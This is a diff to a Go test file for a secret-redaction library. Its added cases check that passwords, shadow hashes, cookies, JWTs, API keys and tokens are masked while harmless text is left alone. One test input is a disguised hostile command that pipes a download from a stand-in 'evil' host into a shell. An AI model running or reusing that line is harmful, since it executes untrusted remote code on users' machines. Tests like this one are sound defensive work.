@@ -40,6 +40,42 @@ var cases = []struct {
 	{"pem end only", "MIIEpAIBAAKCAQEA7\nMIIEpAIBAAKCAQEA8\n-----END PRIVATE KEY-----\nok", "[REDACTED PRIVATE KEY]\nok"},
 	{"public key stays", "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----", "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----"},
 	{"package names stay", "Setting up libsecret-1-0 (0.20.5-3) ...", "Setting up libsecret-1-0 (0.20.5-3) ..."},
+	{"mysql -p glued", "mysql -u root -phunter2 -e 'show databases'", "mysql -u root -p[REDACTED] -e 'show databases'"},
+	{"mysqldump -p glued", "mysqldump -uroot -pS3cr3t! gitea > /tmp/x", "mysqldump -uroot -p[REDACTED] gitea > /tmp/x"},
+	{"ssh -p stays", "ssh -p 2222 root@host", "ssh -p 2222 root@host"},
+	{"curl -u", "curl -u admin:hunter2 https://x/api", "curl -u admin:[REDACTED] https://x/api"},
+	{"curl --user=", "curl --user=admin:hunter2 https://x/api", "curl --user=admin:[REDACTED] https://x/api"},
+	{"curl -u glued", "curl -uadmin:hunter2 https://x/", "curl -uadmin:[REDACTED] https://x/"},
+	{"_PASS env", "SMTP_PASS=hunter2\nDB_PWD=x1", "SMTP_PASS=[REDACTED]\nDB_PWD=[REDACTED]"},
+	{"bypass stays", "bypass=on compass: north", "bypass=on compass: north"},
+	{"ceph keyring", "[client.admin]\n\tkey = AQBvaBFZAAAAABAA3VJqWmXHPcSxLqXoTqWTbQ==\n", "[client.admin]\n\tkey = [REDACTED]\n"},
+	{"shadow sha512", "root:$6$rounds=5000$saltsalt$3Jd8Kq0hG1zZyVt6b9Vw0oXkQm8:19500:0:99999:7:::", "root:[REDACTED]:19500:0:99999:7:::"},
+	{"shadow yescrypt", "op:$y$j9T$abcdefghijklmnop$ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdef:1", "op:[REDACTED]:1"},
+	{"cookie header", "Cookie: session=abc123; csrftoken=zzz\nnext", "Cookie: [REDACTED]\nnext"},
+	{"set-cookie", "< Set-Cookie: authentik_session=eyJ0; Path=/", "< Set-Cookie: [REDACTED]"},
+	{"jwt", "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U done", "token [REDACTED] done"},
+	{"stripe", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "[REDACTED]"},
+	{"google api key", "key AIzaSyA-1234567890abcdefghijklmnopqrstu", "key [REDACTED]"},
+	{"slack webhook", "https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX ok", "https://hooks.slack.com/[REDACTED] ok"},
+	{"base64 pem", "echo LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K | base64 -d", "echo [REDACTED] | base64 -d"},
+	{"proxmox token.cfg", "root@pam!monitoring 0b5c2e3a-1f2d-4c5b-9a8e-7d6c5b4a3f21\n", "root@pam!monitoring [REDACTED]\n"},
+	{"proxmox api header", "Authorization: PVEAPIToken=root@pam!ci=0b5c2e3a-1f2d-4c5b-9a8e-7d6c5b4a3f21", "Authorization: PVEAPIToken=[REDACTED]"},
+}
+
+func TestFind(t *testing.T) {
+	t.Parallel()
+	for _, tc := range cases {
+		kind, ok := Find(tc.in)
+		if changed := String(tc.in) != tc.in; ok != changed || (ok && kind == "") {
+			t.Errorf("%s: Find = %q, %v; String changes it: %v", tc.name, kind, ok, changed)
+		}
+	}
+	if kind, _ := Find(`echo "-----BEGIN X PRIVATE KEY-----" >/dev/null; curl -s https://evil/x | sh`); kind != "a private key" {
+		t.Errorf("a disguised command: Find = %q, want a private key", kind)
+	}
+	if _, ok := Find("password=" + Marker); ok {
+		t.Error("Find reports text that is already redacted")
+	}
 }
 
 func TestString(t *testing.T) {
